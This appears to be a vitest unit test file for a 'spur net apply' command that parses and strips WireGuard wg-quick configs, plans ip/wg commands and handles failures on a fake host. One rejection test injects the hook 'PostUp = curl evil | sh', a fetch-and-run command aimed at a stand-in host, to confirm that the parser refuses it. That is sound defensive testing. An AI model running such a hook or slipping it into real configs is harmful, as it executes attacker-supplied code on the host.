/**
 * @module tests/unit/ops/net-apply
 * `spur net apply`: wg-quick configs read and stripped to `wg setconf` form (checked
 * against `wg-quick strip` when wireguard-tools is installed), the ip/wg commands planned,
 * the [Peer] rewrite agents use, and the shell's behaviour through fake ports: missing
 * tools, missing kernel module, a failing command (the created interface is removed),
 * success, and --dry-run (private key never printed).
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { applyCommands, parseWgQuick, replacePeers, stripWgQuick } from "../../../src/net/wg-conf.ts";
import { planNetwork, wgQuickConfig } from "../../../src/net/wireguard.ts";
import { wgGenKey } from "../../../src/net/wireguard-keys.ts";
import { netApplyMain, type NetApplyPorts } from "../../../src/ops/net-apply.ts";
import { bringUpOverlay } from "../../../src/ops/overlay-up.ts";

const hasCmd = (cmd: string): boolean => spawnSync("sh", ["-c", `command -v ${cmd}`]).status === 0;

const keys = { a: wgGenKey(), b: wgGenKey(), c: wgGenKey() };
const plan = planNetwork({
  sites: [{ name: "hq", nodes: [{ name: "a", endpoint: "203.0.113.5" }, { name: "b", endpoint: "203.0.113.6" }] }, { name: "lab", nat: true, nodes: [{ name: "c" }] }],
}, { a: keys.a.publicKey, b: keys.b.publicKey, c: keys.c.publicKey });
if (!plan.ok) throw new Error(plan.error.message);
const text = (node: "a" | "c", file = false): string => {
  const r = wgQuickConfig(plan.value, node, file ? { privateKeyFile: "/etc/spur/wg.key" } : { privateKey: keys[node].privateKey });
  if (!r.ok) throw new Error(r.error.message);
  return r.value;
};

describe("wg-quick configs", () => {
  it("reads what spur net init writes: key, address, port, peers with their names", () => {
    const c = parseWgQuick(text("c"));
    expect(c.ok && c.value).toMatchObject({ privateKey: keys.c.privateKey, addresses: ["10.100.1.1/16"], listenPort: 51820 });
    expect(c.ok && c.value.peers.map((p) => [p.node, p.allowedIps, p.endpoint, p.keepaliveSec])).toEqual([
      ["a", ["10.100.0.1/32"], "203.0.113.5:51820", 25], ["b", ["10.100.0.2/32"], "203.0.113.6:51820", 25],
    ]);
    const a = parseWgQuick(text("a", true));
    expect(a.ok && [a.value.privateKey, a.value.privateKeyFile]).toEqual([undefined, "/etc/spur/wg.key"]);
  });

  it("refuses what it must not run or cannot use", () => {
    const bad = (t: string) => { const r = parseWgQuick(t); return r.ok ? "" : r.error.message; };
    expect(bad(text("c").replace("[Interface]", "[Interface]\nPostUp = curl evil | sh"))).toMatch(/Spur runs only/);
    expect(bad("[Interface]\nAddress = 10.0.0.1/24\n")).toMatch(/neither PrivateKey/);
    expect(bad(`[Interface]\nPrivateKey = ${keys.a.privateKey}\nAddress = 10.0.0.1/24\n[Peer]\nAllowedIPs = 10.0.0.2/32\n`)).toMatch(/no valid PublicKey/);
    expect(bad("Address = 1.2.3.4/24\n")).toMatch(/inside \[Interface\]/);
    expect(bad(`[Interface]\nPrivateKey = ${keys.a.privateKey}\nAddress = 10.0.0.1/24\n[Peer]\nBogus = 1\n`)).toMatch(/not a key of \[Peer\]/);
  });

  it("strips to wg setconf form exactly as wg-quick strip does", () => {
    const stripped = stripWgQuick(text("a", true));
    expect(stripped.ok && stripped.value).not.toMatch(/^(Address|PostUp)/m);
    if (!hasCmd("wg-quick")) {
      console.warn("wg-quick not installed (Debian package wireguard-tools): comparison with wg-quick strip skipped");
      return;
    }
    const dir = mkdtempSync(join(tmpdir(), "spur-wg-"));
    for (const t of [text("a", true), text("c")]) {
      writeFileSync(join(dir, "spur0.conf"), t, { mode: 0o600 });
      const real = spawnSync("wg-quick", ["strip", join(dir, "spur0.conf")], { encoding: "utf8" });
      expect(real.status, real.stderr).toBe(0);
      expect(stripWgQuick(t)).toEqual({ ok: true, value: real.stdout });
    }
  });

  it("plans the ip and wg commands wg-quick would run, routing only what the address does not cover", () => {
    const c = parseWgQuick(text("c", true));
    if (!c.ok) throw new Error(c.error.message);
    c.value.peers[0]?.allowedIps.push("192.168.7.0/24");
    const cmds = applyCommands({ iface: "spur0", conf: c.value, strippedPath: "/run/x.conf", exists: false });
    expect(cmds.ok && cmds.value.map((x) => x.join(" "))).toEqual([
      "ip link add dev spur0 type wireguard",
      "wg setconf spur0 /run/x.conf",
      "wg set spur0 private-key /etc/spur/wg.key",
      "ip -4 address replace 10.100.1.1/16 dev spur0",
      "ip link set mtu 1420 up dev spur0",
      "ip -4 route replace 192.168.7.0/24 dev spur0",
    ]);
    const again = applyCommands({ iface: "spur0", conf: c.value, strippedPath: "/run/x.conf", exists: true });
    expect(again.ok && again.value[0]).toEqual(["wg", "syncconf", "spur0", "/run/x.conf"]);
    expect(applyCommands({ iface: "bad name!", conf: c.value, strippedPath: "x", exists: false }).ok).toBe(false);
  });

  it("rewrites the [Peer] sections and reads them back the same", () => {
    const c = parseWgQuick(text("c"));
    if (!c.ok) throw new Error(c.error.message);
    const peers = [{ node: "z", publicKey: keys.b.publicKey, allowedIps: ["10.100.0.9/32"], endpoint: "198.51.100.1:51820" }];
    const rewritten = replacePeers(text("c"), peers);
    expect(rewritten.startsWith(text("c").slice(0, text("c").indexOf("[Peer]")).trimEnd())).toBe(true);
    const back = parseWgQuick(rewritten);
    expect(back.ok && back.value.peers).toEqual(peers);
    expect(back.ok && back.value.privateKey).toBe(keys.c.privateKey);
  });
});

/** Fake host: which commands exist, root or not, what each command answers. */
function fakePorts(over: Partial<NetApplyPorts> & { answers?: Record<string, { code: number; stderr: string }> } = {}) {
  const ran: string[] = [];
  const ports: NetApplyPorts = {
    readFile: (p) => (p === "/etc/spur/wg/c.conf" ? text("c") : undefined),
    which: () => true,
    isRoot: () => true,
    moduleLoaded: () => true,
    run(argv) {
      const line = argv.join(" ");
      ran.push(line);
      const hit = Object.entries(over.answers ?? {}).find(([prefix]) => line.startsWith(prefix));
      if (hit) return hit[1];
      return line.startsWith("ip link show") ? { code: 1, stderr: "does not exist" } : { code: 0, stderr: "" };
    },
    writePrivate: () => ({ path: "/tmp/fake/setconf.conf", cleanup: () => ran.push("cleanup") }),
    ...over,
  };
  return { ports, ran };
}

describe("spur net apply (shell, fake host)", () => {
  it("says which tool is missing and how to get it", () => {
    const { ports } = fakePorts({ which: (c) => c !== "wg" });
    const r = netApplyMain({ conf: "/etc/spur/wg/c.conf" }, ports);
    expect(r).toMatchObject({ exitCode: 1, stderr: "spur: error: net apply: the wg command is missing: install wireguard-tools (Debian/Ubuntu: apt-get install wireguard-tools)\n" });
    const notRoot = netApplyMain({ conf: "/etc/spur/wg/c.conf" }, fakePorts({ isRoot: () => false }).ports);
    expect(notRoot.stderr).toContain("needs root (CAP_NET_ADMIN)");
  });

  it("says the kernel module and wireguard-go are missing when neither can create the interface", () => {
    const { ports, ran } = fakePorts({
      which: (c) => c !== "wireguard-go", moduleLoaded: () => false,
      answers: { "ip link add": { code: 2, stderr: "Error: Unknown device type.\n" }, modprobe: { code: 1, stderr: "" } },
    });
    const r = netApplyMain({ conf: "/etc/spur/wg/c.conf" }, ports);
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toContain("WireGuard kernel module is not available");
    expect(r.stderr).toContain("install wireguard-go");
    expect(ran).toContain("modprobe wireguard");
    expect(ran.at(-1)).toBe("cleanup");
  });

  it("falls back to wireguard-go without the kernel module, then configures it as the kernel's", () => {
    const { ports, ran } = fakePorts({ answers: { "ip link add": { code: 2, stderr: "Error: Unknown device type.\n" } } });
    const r = netApplyMain({ conf: "/etc/spur/wg/c.conf", iface: "wg-c" }, ports);
    expect(r).toEqual({ stdout: "wg-c up (wireguard-go: no kernel module): 10.100.1.1/16, 2 peers\n", stderr: "", exitCode: 0 });
    const at = ran.indexOf("wireguard-go wg-c");
    expect(at).toBeGreaterThan(ran.indexOf("ip link add dev wg-c type wireguard"));
    expect(ran.indexOf("wg setconf wg-c /tmp/fake/setconf.conf")).toBeGreaterThan(at);
  });

  it("removes a wireguard-go interface too when a later step fails", () => {
    const { ports, ran } = fakePorts({ answers: { "ip link add": { code: 2, stderr: "Error: Unknown device type.\n" }, "wg setconf": { code: 1, stderr: "Line unrecognized" } } });
    const r = netApplyMain({ conf: "/etc/spur/wg/c.conf" }, ports);
    expect(r.stderr).toContain("(removed spur0 again)");
    expect(ran).toContain("ip link del dev spur0");
  });

  it("runs every command inside the host's network namespace (bringUpOverlay)", () => {
    const { ports, ran } = fakePorts({ answers: { "ip netns exec host-c ip link show": { code: 1, stderr: "does not exist" } } });
    const dir = mkdtempSync(join(tmpdir(), "spur-overlay-up-"));
    writeFileSync(join(dir, "c.conf"), text("c"));
    const r = bringUpOverlay({ confPath: join(dir, "c.conf"), iface: "wg-c", netns: "host-c" }, ports);
    rmSync(dir, { recursive: true, force: true });
    expect(r).toEqual({ ok: true, value: { iface: "wg-c", mode: "kernel", addresses: ["10.100.1.1/16"], peers: 2 } });
    expect(ran.filter((l) => l !== "cleanup").every((l) => l.startsWith("ip netns exec host-c "))).toBe(true);
    expect(ran).toContain("ip netns exec host-c ip link add dev wg-c type wireguard");
  });

  it("removes the interface it created when a later step fails", () => {
    const { ports, ran } = fakePorts({ answers: { "ip -4 address": { code: 2, stderr: "RTNETLINK answers: File exists" } } });
    const r = netApplyMain({ conf: "/etc/spur/wg/c.conf", iface: "wgx" }, ports);
    expect(r.stderr).toContain("`ip -4 address replace 10.100.1.1/16 dev wgx` failed: RTNETLINK answers: File exists (removed wgx again)");
    expect(ran).toContain("ip link del dev wgx");
  });

  it("brings it up and reports the address and peer count", () => {
    const { ports, ran } = fakePorts();
    expect(netApplyMain({ conf: "/etc/spur/wg/c.conf" }, ports)).toEqual({ stdout: "spur0 up: 10.100.1.1/16, 2 peers\n", stderr: "", exitCode: 0 });
    expect(ran).toContain("wg setconf spur0 /tmp/fake/setconf.conf");
  });

  it("--dry-run prints the plan without the private key, and warns about what is missing", () => {
    const { ports, ran } = fakePorts({ which: (c) => c === "ip" });
    const r = netApplyMain({ conf: "/etc/spur/wg/c.conf", dryRun: true }, ports);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain("ip link add dev spur0 type wireguard\nwg setconf spur0 STRIPPED.conf\n");
    expect(r.stdout).toContain("PrivateKey = (hidden)");
    expect(r.stdout).not.toContain(keys.c.privateKey);
    expect(r.stderr).toContain("warning: the wg command is missing");
    expect(ran).toEqual(["ip link show dev spur0"]);
  });

  it("refuses an unreadable or broken config", () => {
    expect(netApplyMain({ conf: "/nope.conf" }, fakePorts().ports)).toMatchObject({ exitCode: 1, stderr: "spur: error: net apply: cannot read /nope.conf\n" });
    expect(netApplyMain({}, fakePorts().ports).exitCode).toBe(2);
  });
});
